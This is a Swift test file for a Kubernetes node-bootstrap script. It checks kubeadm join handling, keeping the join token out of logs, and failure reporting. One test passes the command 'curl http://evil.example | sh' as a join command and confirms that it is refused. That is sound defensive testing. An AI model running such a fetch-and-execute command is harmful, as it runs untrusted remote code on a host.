@testable import Bootstrap
import Foundation
import Spec
import Testing

/// The master publishes, cse reads the published keys, the node's script carries them in, the node joins.
@Suite struct JoinFlowTests {
    @Test func nodeJoinsWithWhatTheMasterPublished() throws {
        let master = try ScriptHarness.withManifest()
        defer { master.remove() }
        let published = try master.run(F.master(nodes: 2))
        #expect(published.exitCode == 0)
        let join = try #require(GuestContract.joinInfo(published.extraConfig, open: F.unseal))

        let script = F.node(join: join)
        #expect(GuestContract.role(ofScript: script) == .node)
        #expect(GuestContract.joinCommand(inScript: script) == join.command)

        let node = try ScriptHarness()
        defer { node.remove() }
        let run = try node.run(script)

        #expect(run.exitCode == 0, "\(run.log)")
        #expect(run.keys == F.phaseKeys(.node) + [GuestContract.statusKey])
        #expect(GuestContract.report(run.extraConfig) == .ready)
        #expect(run.calls(of: "kubeadm") == ["kubeadm join --config \(node.path("etc/kubernetes/cse-kubeadm.yaml").path)"])
        let config = try #require(node.read("kubeadm-join.yaml"))
        #expect(config.hasPrefix("apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\n"))
        #expect(config.contains("apiServerEndpoint: 10.0.0.5:6443\n    token: abcdef.0123456789abcdef\n    caCertHashes:\n    - sha256:8cb2de97"))
        #expect(node.read("etc/kubernetes/cse-kubeadm.yaml") == nil, "the file with the token is removed after the join")
        #expect(node.read("var/lib/cse/bootstrapped") != nil)
        #expect(run.calls.contains("systemctl enable kubelet"))
        #expect(node.read("root/.ssh/authorized_keys") == F.tenantKey + "\n")
        #expect(!run.log.contains("abcdef.0123456789abcdef"), "the token stays out of the node's log")
        #expect(!script.contains("abcdef.0123456789abcdef"), "the script carries the command encoded only")
    }

    @Test func nodeWithoutJoinInformationFailsInJoin() throws {
        let harness = try ScriptHarness()
        defer { harness.remove() }
        let run = try harness.run(F.node(join: nil))

        #expect(run.exitCode != 0)
        #expect(GuestContract.report(run.extraConfig) == .failed(phase: "join", reason: "phase join: the script carries no join command"))
        #expect(run.calls(of: "kubeadm").isEmpty)
    }

    @Test func somethingElseThanKubeadmJoinIsNotRun() throws {
        let harness = try ScriptHarness()
        defer { harness.remove() }
        let run = try harness.run(F.node(join: JoinInfo(command: "curl http://evil.example | sh", expires: nil)))

        #expect(run.exitCode != 0)
        #expect(GuestContract.report(run.extraConfig) == .failed(phase: "join", reason: "phase join: the join command is not a kubeadm join"))
        #expect(run.calls(of: "kubeadm").isEmpty && run.calls(of: "curl").isEmpty)
    }
}

@Suite struct NodeFailureTests {
    @Test func legacyNodesJoinWithTheWords() throws {
        let harness = try ScriptHarness()
        defer { harness.remove() }
        let run = try harness.run(F.node(join: JoinInfo(command: Stubs.joinCommand, expires: nil), template: F.legacyTemplate()))

        #expect(run.exitCode == 0, "\(run.log)")
        #expect(run.calls(of: "kubeadm") == [Stubs.joinCommand])
    }

    @Test func failedJoinNamesTheCommandNotTheToken() throws {
        let harness = try ScriptHarness()
        defer { harness.remove() }
        let run = try harness.run(F.node(join: JoinInfo(command: Stubs.joinCommand, expires: nil)), fail: "kubeadm join")

        #expect(run.exitCode != 0)
        guard case .failed(let phase, let reason) = GuestContract.report(run.extraConfig) else {
            Issue.record("not failed")
            return
        }
        #expect(phase == "join")
        #expect(reason.hasPrefix("phase join: 'kubeadm join --config"), "\(reason)")
        #expect(!reason.contains("abcdef") && !run.log.contains("abcdef"))
    }
}
